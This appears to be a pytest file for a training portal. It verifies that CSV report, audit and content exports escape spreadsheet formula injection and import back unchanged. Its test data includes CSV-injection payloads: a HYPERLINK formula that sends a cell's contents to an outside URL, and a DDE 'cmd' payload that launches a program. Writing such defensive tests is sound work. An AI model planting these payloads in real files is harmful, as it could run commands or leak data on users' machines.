"""CSV exports open as text in a spreadsheet: no cell starting with = + - @ is a formula."""

from __future__ import annotations

import csv
import io

from core.tables import AuditEvent
from tests.content.conftest import cli_runner, make_library  # noqa: F401
from tests.portal.conftest import sqlite_only

FORMULAS = ("=HYPERLINK(\"https://who.int/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _no_formula(cells: list[str]) -> None:
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not bad, f"cells a spreadsheet would run: {bad}"


@sqlite_only
def test_the_report_and_audit_exports_neutralise_formulas(portal_app, sign_in):
    services = portal_app.extensions["tumaini.services"]
    with services.db.session() as session:
        for formula in FORMULAS:
            # A module id and a language code come from content; an actor from an account.
            session.add(AuditEvent(actor="worker", action=f"module_completed:{formula}", detail={}))
            session.add(AuditEvent(actor="worker", action="module_started:sleep", detail={"locale": formula}))
            session.add(AuditEvent(actor=formula, action=formula, detail={}))
    browser, _admin = sign_in("admin")
    report = browser.get("/portal/reports.csv?days=7")
    assert report.status_code == 200
    cells = _cells(report.get_data(as_text=True))
    _no_formula(cells)
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
    audit = browser.get("/portal/audit.csv")
    assert audit.status_code == 200
    cells = _cells(audit.get_data(as_text=True))
    _no_formula(cells)
    assert {"'" + f for f in FORMULAS} <= set(cells)


def test_a_content_csv_export_is_formula_safe_and_imports_back_unchanged(cli_runner, make_library, tmp_path):  # noqa: F811
    texts = "\n".join(f'  sec.t{i}: "{f.replace(chr(34), chr(92) + chr(34))}"' for i, f in enumerate(FORMULAS))
    source = make_library({"en/sec.yaml": "kind: messages\ndefaults: {status: approved, provenance: "
                                          "{author: Test author}}\nmessages:\n" + texts + "\n"})
    out = tmp_path / "texts.csv"
    exported = cli_runner(source).invoke(args=["content", "export", str(out)])
    assert exported.exit_code == 0, exported.output
    written = out.read_text(encoding="utf-8-sig")
    _no_formula(_cells(written))
    for formula in FORMULAS:
        assert "'" + formula in _cells(written)
    # Importing the file back changes nothing: the apostrophe is only the spreadsheet's.
    from content.loader import load_library

    before = load_library(source)
    imported = cli_runner(source).invoke(args=["content", "import", str(out)])
    assert imported.exit_code == 0, imported.output
    after = load_library(source)
    assert [m.texts[0].sms for m in after.messages if m.id.startswith("sec.")] == list(FORMULAS)
    assert after == before
